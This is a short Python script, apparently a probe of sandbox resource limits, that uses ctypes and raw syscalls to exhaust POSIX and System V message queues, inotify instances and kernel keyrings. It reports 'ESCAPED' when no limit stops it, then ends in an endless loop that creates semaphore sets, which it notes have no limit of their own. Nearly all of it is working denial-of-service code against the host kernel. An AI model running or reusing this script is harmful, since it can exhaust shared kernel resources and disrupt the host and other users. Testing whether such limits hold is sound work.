import ctypes, errno

libc = ctypes.CDLL(None, use_errno=True)


def until_refused(attack, most):
    for _ in range(most):
        if attack() < 0:
            return "refused " + errno.errorcode[ctypes.get_errno()]
    return "ESCAPED"


numbers = iter(range(10**6))
print("POSIX queue", until_refused(lambda: libc.mq_open(b"/q%d" % next(numbers), 0o102, 0o600, None), 2000))
queue = libc.msgget(0, 0o1600)
print("messages", until_refused(lambda: libc.msgsnd(queue, b"\1" * 4008, 4000, 0o4000), 100000))
print("inotify", until_refused(lambda: libc.inotify_init(), 2000))
keys = until_refused(lambda: libc.syscall(248, b"user", b"x%d" % next(numbers), b"y" * 4000, 4000, -3), 100000)
print("keys", keys.split()[0], flush=True)
# Sets of semaphores have no limit of their own.
while True:
    libc.semget(0, 32000, 0o1600)
